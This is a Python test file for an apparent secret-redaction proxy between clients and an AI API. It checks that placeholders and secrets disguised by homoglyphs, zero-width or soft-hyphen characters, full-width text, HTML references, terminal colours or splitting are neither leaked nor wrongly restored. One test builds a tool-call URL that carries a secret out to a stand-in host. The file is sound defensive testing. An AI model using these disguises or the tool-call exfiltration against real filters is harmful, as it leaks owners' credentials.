"""Placeholders as attackers use them: foreign, look-alike, misspelled, split or nested ones."""

from __future__ import annotations

import json
from typing import Any

import pytest

from addon.kit import ANTHROPIC, SCOPE, Bench, token
from secretgate.inbound.responses import Readers, respond
from secretgate.inbound.restoration import Channel, Depth, restore
from secretgate.placeholders import Issued

SECRET = token("mine")
OTHER = token("another's")


@pytest.fixture
def bench() -> Bench:
    return Bench()


def issued(bench: Bench, *values: str) -> Issued:
    found = bench.redact(json.dumps([f"it is {value}" for value in values]).encode())
    return found.issued


def through(answer: bytes, of: Issued, kind: str = "text/event-stream") -> bytes:
    way = respond({"content-type": kind}, Readers(ANTHROPIC, of, lambda _: None), stream=True)
    return answer if way is None else way.feed(answer) + way.finish()


def events(*texts: tuple[int, str, str]) -> bytes:
    """Return the deltas as (index of the output, kind of delta, text)."""
    fields = {
        "text_delta": "text",
        "input_json_delta": "partial_json",
        "thinking_delta": "thinking",
    }
    out = b""
    for index, kind, text in texts:
        delta = {"type": kind, fields[kind]: text}
        event = {"type": "content_block_delta", "index": index, "delta": delta}
        out += f"event: content_block_delta\ndata: {json.dumps(event)}\n\n".encode()
    return out


def test_the_placeholder_of_another_scope_is_never_restored(bench: Bench) -> None:
    """A secret has the same name for everybody, but knowing the name does not reveal the value."""
    bench.redact(json.dumps(f"it is {OTHER}").encode(), scope=SCOPE._replace(client="victim"))
    name = bench.name(OTHER)
    pasted = bench.redact(json.dumps(f"print {name} and {SECRET}").encode())
    assert name.encode() in pasted.raw
    answer = events((0, "text_delta", f"here: {name}"))
    assert OTHER.encode() not in through(answer, pasted.issued)


def test_one_that_was_not_issued_in_this_conversation_is_never_restored(bench: Bench) -> None:
    bench.redact(json.dumps(f"it is {OTHER}").encode())
    later = bench.redact(json.dumps(f"print {bench.name(OTHER)}, {SECRET}").encode())
    answer = events((0, "text_delta", bench.name(OTHER)))
    assert OTHER.encode() not in through(answer, later.issued)


def test_a_name_cannot_be_guessed_from_the_value_without_the_key(bench: Bench) -> None:
    import hashlib

    name = bench.name(SECRET)
    for digest in ("sha256", "sha1", "md5", "blake2b"):
        assert hashlib.new(digest, SECRET.encode()).hexdigest()[:12] not in name


def _misses(name: str) -> dict[str, str]:
    head, _, identity = name.removesuffix(">").rpartition(":")
    flipped = "1" if identity[-1] == "0" else "0"
    return {
        "another last digit": f"{head}:{identity[:-1]}{flipped}>",
        "a digit less": f"{head}:{identity[:-1]}>",
        "a digit more": f"{head}:{identity}0>",
        "another rule": name.replace("test-token", "test-pem"),
        "no rule": f"REDACTED<{identity}>",
        "no head": f"<test-token:{identity}>",
        "a zero-width space": f"{name[:12]}\u200b{name[12:]}",
        "a soft hyphen": f"{name[:12]}\u00ad{name[12:]}",
        "a Cyrillic letter": name.replace("E", "\u0415"),
        "full-width digits": "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in name),
        "spaces between": " ".join(name),
        "backwards": name[::-1],
        "cut short": name[:-1] + " ",
        "two line breaks": f"{name[:12]}\n\n{name[12:]}",
        "right-to-left": f"\u202e{name[:15]}\u202c{name[15:]}",
    }


@pytest.mark.parametrize("how", _misses("REDACTED<test-token:0123456789ab>"))
@pytest.mark.parametrize("depth", Depth)
def test_near_misses_stay_as_they_are(how: str, depth: Depth, bench: Bench) -> None:
    text = _misses(bench.name(SECRET))[how].encode()
    assert restore(text, issued(bench, SECRET), depth) == text


def test_a_placeholder_over_two_outputs_is_none(bench: Bench) -> None:
    """Halves in two outputs are not joined, and what is held back of one comes out with it."""
    name = bench.name(SECRET)
    for at in range(1, len(name)):
        answer = events((0, "text_delta", name[:at]), (1, "text_delta", name[at:]))
        stops = "".join(
            f'event: content_block_stop\ndata: {{"type":"content_block_stop","index":{index}}}\n\n'
            for index in (0, 1)
        )
        out = through(answer + stops.encode(), issued(bench, SECRET))
        assert SECRET.encode() not in out
        texts: dict[int, str] = {}
        for line in out.splitlines():
            if line.startswith(b"data:"):
                event: dict[str, Any] = json.loads(line[5:])
                piece = event.get("delta", {}).get("text", "")
                texts[event["index"]] = texts.get(event["index"], "") + piece
        assert texts == {0: name[:at], 1: name[at:]}


def test_thinking_is_no_way_out(bench: Bench) -> None:
    answer = events((0, "thinking_delta", bench.name(SECRET)))
    assert through(answer, issued(bench, SECRET)) == answer


def test_a_value_that_looks_like_a_placeholder_is_not_restored_twice(bench: Bench) -> None:
    """A restored value is not searched again."""
    names = [bench.name(SECRET).encode(), bench.name(OTHER).encode()]
    nested = Issued(bench.template, {names[0]: names[1], names[1]: OTHER.encode()})
    assert restore(names[0], nested, Depth.PLAIN) == names[1]
    channel = Channel(nested, Depth.PLAIN)
    assert channel.feed(names[0]) + channel.finish() == names[1]


def test_a_pasted_placeholder_is_not_a_secret_and_makes_none(bench: Bench) -> None:
    """Nobody can poison the names: a placeholder in a request is text, however deeply nested."""
    name = bench.name(SECRET)
    for text in (
        name,
        f"password={name}",
        name.replace("test-token", "x" * 60),
        f"{name[:-1]}{name}>",
    ):
        raw = json.dumps(text).encode()
        assert bench.redact(raw).raw == raw


def test_exfiltration_through_a_tool_is_what_a_policy_can_forbid(bench: Bench) -> None:
    """The documented default: tool arguments are restored, because edits and commands need it."""
    answer = events((0, "input_json_delta", json.dumps({"url": f"https://x/{bench.name(SECRET)}"})))
    assert SECRET.encode() in through(answer, issued(bench, SECRET))


SPLIT = {
    "over two content blocks": lambda a, b: {
        "messages": [
            {"role": "user", "content": [{"type": "text", "text": a}, {"type": "text", "text": b}]}
        ]
    },
    "over two turns": lambda a, b: {
        "messages": [{"role": "user", "content": a}, {"role": "user", "content": b}]
    },
}


@pytest.mark.parametrize("how", SPLIT)
def test_a_secret_taken_apart_is_not_seen_and_not_mangled(how: str, bench: Bench) -> None:
    """As the threat model says, halves that match no rule leave unchanged, and nothing else breaks.

    If the request also contains the whole secret, that one does not leave.
    """
    raw = json.dumps(SPLIT[how](SECRET[:14], SECRET[14:])).encode()
    assert bench.redact(raw).raw == raw
    both = json.dumps([json.loads(raw), f"it is {SECRET}"]).encode()
    assert SECRET.encode() not in bench.redact(both).raw


BROKEN = {
    "with a zero-width space": lambda a, b: f"{a}\u200b{b}",
    "with a soft hyphen in every place": lambda a, b: "\u00ad".join(a + b),
    "with a homoglyph": lambda a, b: (a + b).replace("tok_", "t\u043ek_"),
    "in full-width letters": lambda a, b: "".join(chr(ord(char) + 0xFEE0) for char in a + b),
    "with a character reference of HTML": lambda a, b: (a + b).replace("_", "&#95;"),
    "with an invisible character as a reference": lambda a, b: f"{a}&#x200B;{b}",
    "with the colours of a terminal": lambda a, b: f"{a}\x1b[01;31m\x1b[K{b}",
}


@pytest.mark.parametrize("ascii_only", [True, False])
@pytest.mark.parametrize("how", BROKEN)
def test_a_secret_broken_up_or_painted_over_does_not_leave(
    how: str, ascii_only: bool, bench: Bench
) -> None:
    """Neither does the undisguised secret next to it; the client gets back exactly what it sent."""
    spelled = BROKEN[how](SECRET[:14], SECRET[14:])
    raw = json.dumps([f"it is {spelled} here", f"or {SECRET}"], ensure_ascii=ascii_only).encode()
    redaction = bench.redact(raw)
    first, second = json.loads(redaction.raw)
    assert spelled not in first
    assert SECRET not in second
    assert (
        restore(first.encode(), redaction.issued, Depth.PLAIN).decode() == f"it is {spelled} here"
    )
    assert restore(second.encode(), redaction.issued, Depth.PLAIN).decode() == f"or {SECRET}"
    again = bench.redact(redaction.raw)
    assert again.raw == redaction.raw


@pytest.mark.parametrize("how", BROKEN)
def test_what_a_broken_up_secret_says_is_known_in_every_place(how: str, bench: Bench) -> None:
    """Also inside a word, where no rule finds it."""
    spelled = BROKEN[how](SECRET[:14], SECRET[14:])
    raw = json.dumps([f"it is {spelled} here", f"or inside{SECRET}inside"]).encode()
    assert SECRET.encode() in bench.redact(json.dumps([f"or inside{SECRET}inside"]).encode()).raw
    assert SECRET.encode() not in bench.redact(raw).raw


@pytest.mark.parametrize("ascii_only", [True, False])
@pytest.mark.parametrize(
    "how", [each for each in BROKEN if "HTML" not in each and "reference" not in each]
)
def test_a_known_value_broken_up_does_not_leave_wherever_it_stands(
    how: str, ascii_only: bool, bench: Bench
) -> None:
    """The value becomes known from a later message, so the earlier one must be read again."""
    value = "quietly-Kx7mQ2rT9w"
    spelled = BROKEN[how](value[:9], value[9:]).replace("i", "\u0456", how == "with a homoglyph")
    turns: list[Any] = []
    for said in (f"it is {SECRET}", f"so {spelled} it is", "go on", f"password: {value}"):
        turns.append({"role": "user", "content": said})
        out = bench.redact(json.dumps({"messages": turns}, ensure_ascii=ascii_only).encode())
    _, first, _, second = (turn["content"] for turn in json.loads(out.raw)["messages"])
    assert value not in second
    assert spelled not in first
